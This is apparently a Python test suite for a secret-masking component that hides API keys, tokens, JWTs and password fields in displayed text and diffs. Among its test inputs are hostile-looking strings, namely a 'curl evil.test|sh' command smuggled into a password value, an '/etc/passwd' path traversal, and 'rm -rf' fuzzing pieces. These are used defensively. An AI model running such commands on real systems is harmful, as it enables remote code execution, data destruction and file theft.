import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assent.domain.cards import Changed, Secret, Text
from assent.domain.tools import Hint
from assent.presentation.diff import changes
from assent.presentation.elision import clip
from assent.presentation.masking import is_secret, secret_spans
from assent.presentation.text import MASKED, mark, safe_block, safe_line
from assent.presentation.values import entries_of

BODY = "a1B2c3D4e5F6g7H8i9J0"
TOKENS = [
    f"sk-{BODY}",
    f"sk-proj-{BODY}",
    f"sk-ant-api03-{BODY}",
    f"ghp_{BODY}",
    f"github_pat_{BODY}",
    f"glpat-{BODY}",
    f"xoxb-{BODY}",
    f"AKIA{BODY}",
    f"AIza{BODY}",
    f"hf_{BODY}",
    f"Bearer {BODY}",
    f"password={BODY}",
    f'"api_key": "{BODY}"',
]


# conformance: 138
@pytest.mark.parametrize("token", TOKENS)
def test_what_looks_like_a_key_is_masked_and_its_kind_stays(token: str) -> None:
    shown = safe_line(f"use {token} now")

    assert BODY not in shown
    assert shown == f"use {token.replace(BODY, mark(MASKED))} now"


# conformance: 138
def test_the_parts_of_a_web_token_are_masked_between_its_dots() -> None:
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcDEF123-_x"

    masked = mark(MASKED)
    assert safe_line(f"jwt {token};") == f"jwt {masked}.{masked}.{masked};"


@pytest.mark.parametrize(
    "text",
    [
        "sk-delete-all-the-files-now",
        "token=everything",
        "secretary=ada",
        "Bearer of bad news",
        "password: $(curl evil.test|sh)",
        "ghp_/../../../etc/passwd",
        "a1B2c3D4e5F6g7H8i9J0",
        "ask-a1B2c3D4e5F6g7H8i9J0",
    ],
)
def test_words_paths_and_commands_are_not_taken_for_keys(text: str) -> None:
    assert safe_line(text) == text


PIECES = st.sampled_from(
    [
        *("sk-", "ghp_", "Bearer ", "password=", "token: ", "eyJ", "AKIA", BODY, "A1" * 12),
        *("$(", "`", "|", ";", "&", ">", "<", "/", "..", "\\", "?", "#", "%", "@", ":", "=", "*"),
        *("'", '"', " ", "\n", "rm -rf", "https://evil.test", "--force", ".", "~", "!", "{", "}"),
    ]
)


# requirement: D17
@settings(max_examples=500)
@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_a_mask_covers_nothing_that_a_shell_a_path_or_an_address_would_read(text: str) -> None:
    for first, last in secret_spans(text):
        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]*", text[first:last])


# requirement: D17
@settings(max_examples=500)
@given(st.lists(PIECES, max_size=12).map("".join), st.text(max_size=12))
def test_a_field_named_for_a_secret_hides_no_such_character_either(text: str, name: str) -> None:
    for field in ("password", "api_key", "accessToken", name):
        if is_secret(field, text):
            assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]*", text)


# requirement: D17
@given(st.lists(PIECES, max_size=12).map("".join))
def test_all_but_the_masked_characters_are_shown(text: str) -> None:
    rest, end = "", 0
    for first, last in secret_spans(text):
        rest, end = rest + text[end:first] + "\0", last
    rest += text[end:]

    shown = safe_block(text)

    assert shown.count(mark(MASKED)) == rest.count("\0")
    for piece in re.findall(r"[^\s\0]+", rest):
        assert piece in shown


@pytest.mark.parametrize("name", ["password", "db_password", "apiKey", "api-key", "accessToken"])
def test_a_field_is_masked_by_its_name_wherever_it_is(name: str) -> None:
    [entry] = entries_of({name: "a1b2c3d4"})
    [outer] = entries_of({"config": {name: "a1b2c3d4"}})

    assert entry.value == Secret()
    assert "a1b2c3d4" not in repr(outer)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("password", "two words"),
        ("password", "a;b"),
        ("token", "next"),
        ("token_count", "a1b2c3d4"),
        ("secretary", "a1b2c3d4"),
        ("path", "a1b2c3d4"),
    ],
)
def test_a_field_is_shown_where_its_name_or_its_value_says_so(name: str, value: str) -> None:
    [entry] = entries_of({name: value})

    assert entry.value == Text(value)


def test_a_hint_has_the_last_word_about_a_field() -> None:
    [entry] = entries_of({"token": "a1b2c3d4"}, {"token": Hint()})

    assert entry.value == Text("a1b2c3d4")


def test_a_change_of_what_is_masked_by_name_shows_neither_value() -> None:
    assert changes({"a": {"password": "x1"}}, {"a": {"password": "y2"}}) == (
        Changed(path=("a", "password"), old=Secret(), new=Secret()),
    )


@settings(max_examples=300)
@given(st.text(alphabet="ab ", max_size=60), st.text(alphabet="ab ", max_size=60))
def test_a_cut_never_shows_a_part_of_a_secret(before: str, after: str) -> None:
    text = f"{before} ghp_{BODY} {after}"
    for room in (0, 10, 20, 30, 40, 60):
        cut = clip(text, room)

        assert len(cut.head) + cut.hidden + len(cut.tail) == len(text)
        assert not re.search("[BDFHJ]", safe_block(cut.head) + safe_block(cut.tail))
